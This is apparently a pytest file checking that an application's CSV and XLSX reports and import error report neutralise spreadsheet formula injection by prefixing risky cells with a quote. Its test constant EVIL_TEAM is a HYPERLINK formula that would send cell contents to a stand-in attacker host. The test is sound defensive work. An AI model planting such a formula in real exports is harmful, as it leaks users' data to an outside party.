"""Formula injection (issue 15.4): a team named like a formula reaches the supervisor's CSV and
XLSX reports as text, never as a formula; numbers stay numbers; the import error report
neutralises what came from the imported file."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desk_app import cli
from desk_app.db import Database
from desk_app.domain.spreadsheet import safe_cell, safe_text
from desk_app.domain.states import DeliveryKind, DeliveryOutcome
from desk_app.importing.rows import RowError
from desk_app.services.applications.importer import ImportReport, write_error_report
from desk_app.services.context import Actor
from desk_app.services.delivery.booking import book
from desk_app.services.delivery.common import OutcomeInput
from desk_app.services.delivery.outcomes import record_outcome
from desk_app.services.delivery.setup import TeamInput, save_team
from desk_app.services.reporting.report import export_report
from desk_app.services.reporting.summary import make_period, summarize
from tests.people import as_person
from tests.services.delivery.delivery_fixtures import NOW, TUESDAY, approved, make_stock

EVIL_TEAM = '=HYPERLINK("http://kotu.example/?"&A5,"Ekip 1")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tEkip", "\rEkip"]


def test_safe_cell_follows_owasp() -> None:
    for text in STARTS:
        assert safe_text(text) == "'" + text
    assert safe_text("Ekip 1") == "Ekip 1" and safe_text("") == ""
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


@pytest.fixture
def evil_report(db: Database, supervisor: Actor, clerk: Actor) -> object:
    team, _ = save_team(as_person(db, supervisor), supervisor, TeamInput(EVIL_TEAM, "Üye 1", 3))
    make_stock(as_person(db, supervisor), supervisor)
    app = approved(as_person(db, clerk), clerk, seed=3)
    delivery = book(
        as_person(db, clerk), clerk, *app, DeliveryKind.HOME, TUESDAY, team_id=team.id, now=NOW
    ).delivery.id
    record_outcome(
        db,
        clerk,
        delivery,
        OutcomeInput(DeliveryOutcome.DELIVERED, received_by="Ayşe Öztürk", relation="Anne"),
        now=NOW + timedelta(days=1, hours=4),
    )
    return summarize(
        as_person(db, supervisor),
        supervisor,
        make_period("year", year=2025),
        now=NOW + timedelta(days=2),
    )


def test_csv_and_xlsx_reports_never_hold_a_formula(
    db: Database, supervisor: Actor, evil_report: object, tmp_path: Path
) -> None:
    data = export_report(
        as_person(db, supervisor), supervisor, evil_report, "csv", tmp_path / "r.csv"
    )  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert "'" + EVIL_TEAM in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(",", "").isdigit()
    ]
    export_report(as_person(db, supervisor), supervisor, evil_report, "xlsx", tmp_path / "r.xlsx")  # type: ignore[arg-type]
    book = load_workbook(tmp_path / "r.xlsx")
    seen = False
    numbers = 0
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    seen |= cell.value == "'" + EVIL_TEAM
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert seen and numbers > 0  # the counts are still numbers


def test_report_command_line_xlsx(
    db_url: str, db: Database, evil_report: object, tmp_path: Path
) -> None:
    out = tmp_path / "cli.xlsx"
    code = cli.main(
        ["--db", db_url, "report", "--year", "2025", "--format", "xlsx", "--out", str(out)]
    )
    assert code == 0
    formulas = [
        c.coordinate
        for s in load_workbook(out).worksheets
        for line in s.iter_rows()
        for c in line
        if c.data_type == "f"
    ]
    assert formulas == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_error_report_neutralises_text_from_the_file(tmp_path: Path, suffix: str) -> None:
    errors = tuple(RowError(i + 2, text, text + " geçersiz") for i, text in enumerate(STARTS))
    report = ImportReport("f.csv", len(STARTS), 0, 0, len(STARTS), 0, errors)
    target = write_error_report(report, tmp_path / f"hatalar{suffix}")
    if suffix == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as handle:
            lines = list(csv.reader(handle, delimiter=";"))
    else:
        sheet = load_workbook(target).worksheets[0]
        assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
        lines = [list(r) for r in sheet.iter_rows(values_only=True)]
    for line, text in zip(lines[1:], STARTS, strict=True):
        if suffix == ".xlsx":
            text = text.replace("\r", "\n")  # XML keeps no carriage return
        assert str(line[0]).isdigit()
        assert line[1] == "'" + text and line[2] == "'" + text + " geçersiz"
